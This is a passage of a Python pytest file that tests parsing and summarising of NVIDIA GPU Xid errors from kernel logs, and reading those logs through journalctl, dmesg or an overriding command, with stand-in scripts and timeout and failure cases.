        "GPU 0019:01:00: Xid 145 (NVLINK: RLW Error: RLW_SRC_TRACK Nonfatal): info",
    )


def test_summary_lines_are_safe_as_they_are():
    for name in EXPECTED:
        for line in xid.summarize(xid.parse_events(sample(name))).lines:
            assert slurmnode.clean_reason(line, len(line)) == line


def test_no_events_no_action():
    assert xid.summarize([]) == xid.XidSummary(None, ())
    assert xid.worse("info", "app") == "app" and xid.worse("rma", "reboot") == "rma"


# -- reading the log ------------------------------------------------------------------------------

def script(path, body):
    path.write_text("#!/bin/sh\n" + body)
    path.chmod(0o755)
    return path


def test_the_command_override_is_read(tmp_path, monkeypatch):
    stand_in = script(tmp_path / "kernel-log", f"exec cat '{DATA / 'dmesg.txt'}'\n")
    monkeypatch.setenv(kernellog.ENV_KERNEL_LOG, str(stand_in))
    assert kernellog.read_kernel_log() == sample("dmesg.txt")
    events, cursor = xid.poll()
    assert shape(events) == EXPECTED["dmesg.txt"]
    assert xid.poll(cursor)[0] == []


def test_a_command_that_hangs_times_out_with_the_reason(tmp_path, monkeypatch):
    stand_in = script(tmp_path / "kernel-log", "sleep 30\n")
    monkeypatch.setenv(kernellog.ENV_KERNEL_LOG, str(stand_in))
    started = time.monotonic()
    with pytest.raises(kernellog.KernelLogError, match="timed out after 0.5 s"):
        kernellog.read_kernel_log(timeout=0.5)
    assert time.monotonic() - started < 5
    with pytest.raises(kernellog.KernelLogError):
        xid.poll(xid.Cursor("boot-a", 5, 1), timeout=0.5)


def test_a_command_that_fails_says_why(tmp_path, monkeypatch):
    stand_in = script(tmp_path / "kernel-log",
                      "echo 'dmesg: read kernel buffer failed: Operation not permitted' >&2\nexit 1\n")
    monkeypatch.setenv(kernellog.ENV_KERNEL_LOG, str(stand_in))
    with pytest.raises(kernellog.KernelLogError, match="ACCEPTANCE_KERNEL_LOG: .* exited 1: dmesg: read kernel buffer"):
        kernellog.read_kernel_log()
    monkeypatch.setenv(kernellog.ENV_KERNEL_LOG, str(tmp_path / "missing"))
    with pytest.raises(kernellog.KernelLogError, match="missing"):
        kernellog.read_kernel_log()
    monkeypatch.setenv(kernellog.ENV_KERNEL_LOG, "'unbalanced")
    with pytest.raises(kernellog.KernelLogError, match="not a command line"):
        kernellog.read_kernel_log()


@pytest.fixture
def fake_bin(tmp_path, monkeypatch):
    """A PATH whose journalctl and dmesg are stand-ins the test writes."""
    monkeypatch.delenv(kernellog.ENV_KERNEL_LOG, raising=False)
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ.get('PATH', '')}")
    return bin_dir


def test_journalctl_first_with_monotonic_stamps(fake_bin):
    script(fake_bin / "journalctl", f"echo \"$*\" > '{fake_bin / 'args'}'\nexec cat '{DATA / 'journalctl-k.txt'}'\n")
    script(fake_bin / "dmesg", "exit 99\n")
    assert kernellog.read_kernel_log() == sample("journalctl-k.txt")
    assert (fake_bin / "args").read_text().split() == ["-k", "-o", "short-monotonic", "--no-pager"]


@pytest.mark.parametrize("journalctl", ["exit 1\n", "echo '-- No entries --'\n"])
def test_dmesg_when_journalctl_fails_or_sees_nothing(fake_bin, journalctl):
    script(fake_bin / "journalctl", journalctl)
    script(fake_bin / "dmesg", f"exec cat '{DATA / 'dmesg.txt'}'\n")
    assert kernellog.read_kernel_log() == sample("dmesg.txt")


def test_both_failing_names_both(fake_bin):
    script(fake_bin / "journalctl", "echo 'No journal files were found.' >&2\nexit 1\n")
    script(fake_bin / "dmesg", "echo 'read kernel buffer failed: Operation not permitted' >&2\nexit 1\n")
    with pytest.raises(kernellog.KernelLogError) as caught:
        kernellog.read_kernel_log()
    assert "No journal files were found" in str(caught.value)
    assert "Operation not permitted" in str(caught.value)
